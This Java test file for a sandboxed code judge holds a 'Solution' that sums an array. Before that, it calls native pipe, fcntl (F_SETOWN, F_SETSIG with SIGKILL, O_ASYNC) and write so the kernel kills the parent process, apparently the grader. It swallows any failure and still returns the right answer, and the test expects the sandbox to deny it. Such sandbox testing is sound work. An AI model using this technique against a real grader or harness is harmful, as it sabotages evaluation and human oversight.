// expect: DENIED; without: RTE|AC
// Has the kernel itself send a SIGKILL to the app when a pipe becomes readable, by F_SETOWN and F_SETSIG.
import java.lang.foreign.*;
import java.lang.invoke.MethodHandle;

class Solution {
    static MethodHandle find(String name, ValueLayout... layouts) {
        Linker linker = Linker.nativeLinker();
        return linker.downcallHandle(
                linker.defaultLookup().findOrThrow(name), FunctionDescriptor.of(ValueLayout.JAVA_INT, layouts));
    }

    long total(int[] numbers) {
        try {
            ValueLayout whole = ValueLayout.JAVA_INT;
            MethodHandle fcntl = find("fcntl", whole, whole, whole);
            MemorySegment ends = Arena.global().allocate(8);
            int made = (int) find("pipe", ValueLayout.ADDRESS).invokeExact(ends);
            int parent = (int) find("getppid").invokeExact();
            int reading = ends.get(ValueLayout.JAVA_INT, 0);
            int set = (int) fcntl.invokeExact(reading, 8, parent);
            set += (int) fcntl.invokeExact(reading, 10, 9);
            set += (int) fcntl.invokeExact(reading, 4, 0x2000);
            MemorySegment byteToWrite = Arena.global().allocate(1);
            Linker linker = Linker.nativeLinker();
            MethodHandle write = linker.downcallHandle(
                    linker.defaultLookup().findOrThrow("write"),
                    FunctionDescriptor.of(
                            ValueLayout.JAVA_LONG, ValueLayout.JAVA_INT, ValueLayout.ADDRESS, ValueLayout.JAVA_LONG));
            long written = (long) write.invokeExact(ends.get(ValueLayout.JAVA_INT, 4), byteToWrite, 1L);
        } catch (Throwable e) {
            // it was worth a try
        }
        return Arrays.stream(numbers).asLongStream().sum();
    }
}
